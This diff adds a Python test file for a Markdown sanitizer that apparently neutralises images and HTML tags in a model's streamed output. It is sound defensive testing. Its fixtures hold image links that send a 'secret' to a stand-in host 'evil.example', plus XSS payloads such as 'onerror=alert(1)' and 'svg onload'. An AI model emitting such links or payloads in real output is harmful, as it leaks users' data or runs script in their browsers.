@@ -1,0 +1,83 @@
+"""Nothing in a model's Markdown loads by being shown, in however many pieces it comes."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from eightgentc_ai.domain.neutral_markdown import NeutralMarkdown, neutral, neutral_beginning
+
+LOADS = {
+    "![x](https://evil.example/?q=secret)": "[x](https://evil.example/?q=secret)",
+    "a![x](//evil.example/a.png)": "a[x](//evil.example/a.png)",
+    "!![x](https://evil.example)": "[x](https://evil.example)",
+    "![x][1]\n\n[1]: https://evil.example": "[x][1]\n\n[1]: https://evil.example",
+    "\\![x](u)": "\\[x](u)",
+    "\\\\![x](u)": "\\\\[x](u)",
+    "[![x](a)](b)": "[[x](a)](b)",
+    '<img src="https://evil.example">': '&lt;img src="https://evil.example">',
+    "<IMG/SRC=x onerror=alert(1)>": "&lt;IMG/SRC=x onerror=alert(1)>",
+    "<iframe src=x></iframe>": "&lt;iframe src=x>&lt;/iframe>",
+    "<scr<script>ipt>": "<scr&lt;script>ipt>",
+    "<svg onload=x>": "&lt;svg onload=x>",
+    "<\nimg": "<\nimg",
+}
+STAYS = [
+    "Great! [Read on](https://example.org)",
+    "We earn < 5 % and > 3 %.",
+    "a <b>bold</b> word<br>and a line",
+    "<https://example.org>",
+    "1 <imgur> 2",
+    "Wow!!!",
+    "if a<b and c>d",
+]
+BITS = [
+    "!",
+    "[",
+    "]",
+    "(",
+    "<",
+    "/",
+    "i",
+    "m",
+    "g",
+    "s",
+    "v",
+    " ",
+    "\\",
+    "img",
+    "![",
+    "<img",
+    "template",
+    "x" * 12,
+]
+PIECES = st.lists(st.sampled_from(BITS)).map("".join)
+
+
+@pytest.mark.parametrize(("text", "made"), LOADS.items())
+def test_what_would_load_is_made_a_link_or_text(text: str, made: str) -> None:
+    assert neutral(text) == made
+
+
+@pytest.mark.parametrize("text", STAYS)
+def test_what_loads_nothing_stays_as_it_is(text: str) -> None:
+    assert neutral(text) == text
+
+
+@given(st.lists(PIECES))
+def test_pieces_give_the_same_as_the_whole(pieces: list[str]) -> None:
+    stream = NeutralMarkdown()
+
+    made = "".join([stream.take(piece) for piece in pieces] + [stream.end()])
+
+    assert made == neutral("".join(pieces))
+    assert not re.search(r"!\[|<img\b", made)
+    assert neutral(made) == made
+
+
+@given(PIECES, PIECES)
+def test_the_beginning_of_a_text_stays_when_it_grows(text: str, more: str) -> None:
+    assert neutral_beginning(text + more).startswith(neutral_beginning(text))
